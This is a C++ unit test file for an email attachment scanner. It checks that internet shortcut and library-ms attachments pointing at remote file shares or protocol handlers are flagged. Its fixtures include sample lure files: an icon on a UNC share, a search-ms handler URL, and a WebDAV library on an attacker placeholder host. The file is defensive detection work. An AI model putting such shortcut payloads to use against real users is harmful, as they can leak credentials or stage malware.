// internet_shortcut: through the engine, a .url whose icon or target is on a share is judged by
// the links analyzer (LINK_UNC_PATH), one opening a protocol handler too (LINK_PROTOCOL_HANDLER),
// and a bookmark to a web page weighs little as a dangerous type.
#include <gtest/gtest.h>

#include "analyzers/analyzer_harness.h"
#include "vigie/engine.h"

namespace vigie::analyzers {
namespace {

std::string with_shortcut(std::string_view name, std::string_view content) {
  return "From: a@outside.example\nTo: b@example.net\nSubject: lien\nContent-Type: multipart/mixed; boundary=b\n\n"
         "--b\nContent-Type: text/plain\n\nLe lien.\n--b\nContent-Type: application/octet-stream\n"
         "Content-Disposition: attachment; filename=\"" + std::string(name) + "\"\n\n" + std::string(content) + "\n--b--\n";
}

const Finding* first(const ScanResult& r, std::string_view id) {
  for (const Finding& f : r.findings) {
    if (f.id == id) return &f;
  }
  return nullptr;
}

ScanResult scan(const std::string& raw) {
  static const Engine engine{Config{}};
  return engine.scan(std::make_shared<const std::string>(raw), Envelope{});
}

TEST(InternetShortcutTest, AnIconOnAFileShareIsAUncLink) {
  const ScanResult r = scan(with_shortcut(
      "Rapport.url", "[InternetShortcut]\r\nURL=https://example.org/rapport\r\nIconFile=\\\\203.0.113.7\\icons\\pdf.ico\r\nIconIndex=0\r\n"));
  const Finding* unc = first(r, "LINK_UNC_PATH");
  ASSERT_NE(unc, nullptr);
  EXPECT_NE(unc->evidence.at(0).value.find("file share on 203.0.113.7"), std::string::npos);
  const Finding* type = first(r, "ATTACHMENT_DANGEROUS_TYPE");
  ASSERT_NE(type, nullptr);
  EXPECT_EQ(type->confidence, 1.0);
}

TEST(InternetShortcutTest, AHandlerTargetIsAProtocolHandlerLink) {
  const ScanResult r = scan(with_shortcut(
      "Facture.url", "[InternetShortcut]\nURL=search-ms:query=facture&crumb=location:\\\\files.attacker.example@SSL\\DavWWWRoot\n"));
  ASSERT_NE(first(r, "LINK_PROTOCOL_HANDLER"), nullptr);
}

TEST(InternetShortcutTest, ALibraryOnAWebDavShareIsAUncLink) {
  const ScanResult r = scan(with_shortcut(
      "Documents.library-ms",
      "<?xml version=\"1.0\" encoding=\"UTF-8\"?><libraryDescription xmlns=\"http://schemas.microsoft.com/windows/2009/library\">"
      "<searchConnectorDescriptionList><searchConnectorDescription><simpleLocation>"
      "<url>\\\\files.attacker.example@SSL\\DavWWWRoot\\docs</url></simpleLocation></searchConnectorDescription>"
      "</searchConnectorDescriptionList></libraryDescription>"));
  const Finding* unc = first(r, "LINK_UNC_PATH");
  ASSERT_NE(unc, nullptr);
  EXPECT_NE(unc->evidence.at(0).value.find("WebDAV share on files.attacker.example"), std::string::npos)
      << unc->evidence.at(0).value;
}

TEST(InternetShortcutTest, ABookmarkToAWebPageWeighsLittle) {
  const ScanResult r = scan(with_shortcut("Service-public.url", "[InternetShortcut]\r\nURL=https://www.service-public.fr/\r\n"));
  const Finding* type = first(r, "ATTACHMENT_DANGEROUS_TYPE");
  ASSERT_NE(type, nullptr);
  EXPECT_LT(type->confidence, 0.5);
  EXPECT_EQ(first(r, "LINK_UNC_PATH"), nullptr);
  EXPECT_EQ(first(r, "LINK_PROTOCOL_HANDLER"), nullptr);
}

}  // namespace
}  // namespace vigie::analyzers
